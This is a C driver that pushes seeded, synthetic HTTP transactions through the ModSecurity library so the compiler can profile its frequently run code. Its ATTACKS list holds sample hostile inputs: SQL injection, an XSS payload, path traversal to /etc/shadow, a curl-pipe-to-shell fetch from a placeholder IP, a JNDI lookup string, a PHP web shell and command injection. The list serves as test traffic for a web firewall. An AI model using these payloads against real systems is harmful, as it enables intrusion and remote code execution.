/* Leads transactions of many kinds through the C library, so that a compiler can be told what runs often: `make capi-pgo`.
 *
 *   train RULES COUNT
 *
 * The requests are made from lists of words and a fixed seed: pages, queries, forms, JSON, XML, uploads, answers of several kinds, and some attacks.
 * They are not those that any benchmark measures. */
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define PICK(list) list[next() % (sizeof(list) / sizeof(list[0]))]

static uint64_t state = 0x2545F4914F6CDD1D;

/* xorshift64: the same numbers in each run. */
static uint32_t next(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 32);
}

static const char *const WORDS[] = {"account", "basket", "catalogue", "delivery", "engine", "forum", "garden", "holiday", "invoice", "journal", "kitchen",
    "library", "market", "newsletter", "order", "product", "quality", "recipe", "summer", "travel", "update", "voucher", "weather", "yellow"};
static const char *const ENDINGS[] = {"", "/", ".html", ".php", ".js", ".css", ".png", ".svg", ".woff2", ".json"};
static const char *const AGENTS[] = {
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36 Edg/127.0.0.0"};
static const char *const LANGUAGES[] = {"en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr,fr-FR;q=0.8,en-US;q=0.5", "ja"};
static const char *const SENTENCES[] = {"The parcel should arrive on Tuesday, between 9 and 11.", "Is the blue one (size 42) still available?",
    "Price: 19.99 + 4.50 shipping; 10% off with the code SPRING-24!", "Ma\xc3\xb1" "ana \xe2\x80\x93 caf\xc3\xa9 & cr\xc3\xa8me br\xc3\xbbl\xc3\xa9" "e",
    "Call me at +44 20 7946 0991 or write to jo@shop.example", "{\"theme\":\"dark\",\"cols\":[3,4,5]}", "https://news.example/2024/06/story?id=77&ref=feed#top"};
static const char *const ATTACKS[] = {"9' or 'a'='a", "7 union all select name, pass from users#", "<svg/onload=confirm(1)>", "..%2f..%2f..%2fetc/shadow",
    "$(curl http://198.51.100.9/x|sh)", "${jndi:ldap://198.51.100.9/a}", "<?php echo shell_exec($_GET[0]); ?>", "{{config.items()}}", "|| ping -c 3 198.51.100.9"};

static char text[1 << 17];
static size_t length;

static void add(const char *format, ...) {
    va_list arguments;
    va_start(arguments, format);
    int more = vsnprintf(text + length, sizeof text - length, format, arguments);
    va_end(arguments);
    length += more > 0 && (size_t)more < sizeof text - length ? (size_t)more : 0;
}

/* Adds a value as browsers write it in queries and forms. */
static void add_escaped(const char *value) {
    for (; *value; value++) {
        unsigned char byte = (unsigned char)*value;
        if ((byte >= 'a' && byte <= 'z') || (byte >= 'A' && byte <= 'Z') || (byte >= '0' && byte <= '9') || strchr("-_.~", byte)) {
            add("%c", byte);
        } else {
            add(byte == ' ' ? "+" : "%%%02X", byte);
        }
    }
}

static const char *value(int hostile) {
    static char number[16];
    if (hostile && next() % 3 == 0) return PICK(ATTACKS);
    switch (next() % 4) {
    case 0: snprintf(number, sizeof number, "%u", next() % 100000); return number;
    case 1: return PICK(SENTENCES);
    default: return PICK(WORDS);
    }
}

static void add_fields(unsigned count, int hostile) {
    for (unsigned at = 0; at < count; at++) {
        add("%s%s=", at ? "&" : "", PICK(WORDS));
        add_escaped(value(hostile));
    }
}

static void add_json(unsigned depth, int hostile) {
    unsigned count = 1 + next() % 6;
    add("{");
    for (unsigned at = 0; at < count; at++) {
        add("%s\"%s%u\":", at ? "," : "", PICK(WORDS), at);
        switch (depth ? next() % 4 : 3) {
        case 0: add_json(depth - 1, hostile); break;
        case 1: add("[%u,%u.5,true,null]", next() % 100, next() % 100); break;
        default:
            add("\"");
            for (const char *rest = value(hostile); *rest; rest++) add(*rest == '"' || *rest == '\\' ? "\\%c" : "%c", *rest);
            add("\"");
        }
    }
    add("}");
}

static void add_page(unsigned paragraphs) {
    add("<!DOCTYPE html><html><head><title>%s</title><link rel=\"stylesheet\" href=\"/%s.css\"></head><body>", PICK(WORDS), PICK(WORDS));
    for (unsigned at = 0; at < paragraphs; at++) add("<p class=\"%s\">%s <a href=\"/%s?page=%u\">%s</a></p>\n", PICK(WORDS), PICK(SENTENCES), PICK(WORDS), at, PICK(WORDS));
    add("</body></html>");
}

static void request_header(Transaction *transaction, const char *name, const char *content) {
    msc_add_request_header(transaction, (const unsigned char *)name, (const unsigned char *)content);
}

static int is_stopped(Transaction *transaction) {
    ModSecurityIntervention intervention = {200, 0, NULL, NULL, 0};
    int stopped = msc_intervention(transaction, &intervention);
    free(intervention.log);
    free(intervention.url);
    return stopped;
}

/* Leads one transaction until it is stopped. */
static void lead(Transaction *transaction) {
    enum { PAGE, QUERY, FORM, JSON, XML, UPLOAD };
    static const int KINDS[] = {PAGE, PAGE, PAGE, PAGE, QUERY, QUERY, QUERY, FORM, FORM, JSON, JSON, XML, UPLOAD};
    static const char *const TYPES[] = {0, 0, "application/x-www-form-urlencoded", "application/json", "application/xml", "multipart/form-data; boundary=xYzZY"};
    int kind = PICK(KINDS), hostile = next() % 12 == 0;
    msc_process_connection(transaction, "192.0.2.7", 40000 + (int)(next() % 9999), "198.51.100.1", 443);
    length = 0;
    add("/%s/%s-%u%s", PICK(WORDS), PICK(WORDS), next() % 1000, PICK(ENDINGS));
    if (kind == QUERY) {
        add("?");
        add_fields(1 + next() % 8, hostile);
    }
    msc_process_uri(transaction, text, kind < FORM ? "GET" : "POST", "1.1");
    request_header(transaction, "Host", "www.shop.example");
    request_header(transaction, "User-Agent", PICK(AGENTS));
    request_header(transaction, "Accept", kind == PAGE ? "text/html,application/xhtml+xml,*/*;q=0.8" : "*/*");
    request_header(transaction, "Accept-Language", PICK(LANGUAGES));
    request_header(transaction, "Accept-Encoding", "gzip, deflate, br, zstd");
    length = 0;
    add("https://www.shop.example/%s?%s=%u", PICK(WORDS), PICK(WORDS), next());
    request_header(transaction, "Referer", text);
    if (next() % 2) {
        length = 0;
        add("sid=%08x%08x; lang=%s; _tr=GS1.1.%u.%u", next(), next(), PICK(WORDS), next(), next());
        request_header(transaction, "Cookie", text);
    }
    length = 0;
    /* Some uploads are large: the lines of the file come again and again, a chunk each time. */
    size_t lines_start = 0, lines_end = 0, repeats = 0;
    switch (kind) {
    case FORM: add_fields(2 + next() % 12, hostile); break;
    case JSON: add_json(next() % 4, hostile); break;
    case XML: add("<?xml version=\"1.0\"?><%s id=\"%u\"><name>%s</name><note>%s</note></%s>", "order", next(), PICK(WORDS), PICK(WORDS), "order"); break;
    case UPLOAD:
        add("--xYzZY\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n", PICK(WORDS), value(hostile));
        add("--xYzZY\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s.csv\"\r\nContent-Type: text/csv\r\n\r\n", PICK(WORDS));
        lines_start = length;
        for (unsigned lines = next() % 300; lines; lines--) add("%s,%u,%s\r\n", PICK(WORDS), next() % 1000, PICK(SENTENCES));
        lines_end = length;
        repeats = next() % 32 ? 0 : 60;
        add("\r\n--xYzZY--\r\n");
    }
    if (TYPES[kind]) {
        char bytes[24];
        snprintf(bytes, sizeof bytes, "%zu", length + repeats * (lines_end - lines_start));
        request_header(transaction, "Content-Type", TYPES[kind]);
        request_header(transaction, "Content-Length", bytes);
    }
    msc_process_request_headers(transaction);
    if (is_stopped(transaction)) return;
    if (lines_end) msc_append_request_body(transaction, (const unsigned char *)text, lines_end);
    for (; repeats; repeats--) msc_append_request_body(transaction, (const unsigned char *)text + lines_start, lines_end - lines_start);
    if (length) msc_append_request_body(transaction, (const unsigned char *)text + lines_end, length - lines_end);
    msc_process_request_body(transaction);
    if (is_stopped(transaction)) return;
    length = 0;
    if (kind == JSON) add_json(3, 0); else add_page(next() % 60);
    const char *type = kind == JSON ? "application/json" : "text/html; charset=utf-8";
    msc_add_response_header(transaction, (const unsigned char *)"Content-Type", (const unsigned char *)type);
    msc_process_response_headers(transaction, 200, "HTTP/1.1");
    if (is_stopped(transaction)) return;
    msc_append_response_body(transaction, (const unsigned char *)text, length);
    msc_process_response_body(transaction);
    is_stopped(transaction);
}

static void ignore(void *data, const void *message) {
    (void)data;
    (void)message;
}

int main(int argc, char **argv) {
    if (argc != 3) return fprintf(stderr, "usage: train RULES COUNT\n"), 2;
    ModSecurity *engine = msc_init();
    msc_set_log_cb(engine, ignore);
    RulesSet *rules = msc_create_rules_set();
    const char *error = NULL;
    if (msc_rules_add_file(rules, argv[1], &error) < 0) return fprintf(stderr, "train: %s\n", error ? error : argv[1]), 1;
    for (long left = atol(argv[2]); left > 0; left--) {
        Transaction *transaction = msc_new_transaction(engine, rules, NULL);
        lead(transaction);
        msc_process_logging(transaction);
        msc_transaction_cleanup(transaction);
    }
    msc_rules_cleanup(rules);
    msc_cleanup(engine);
    return 0;
}
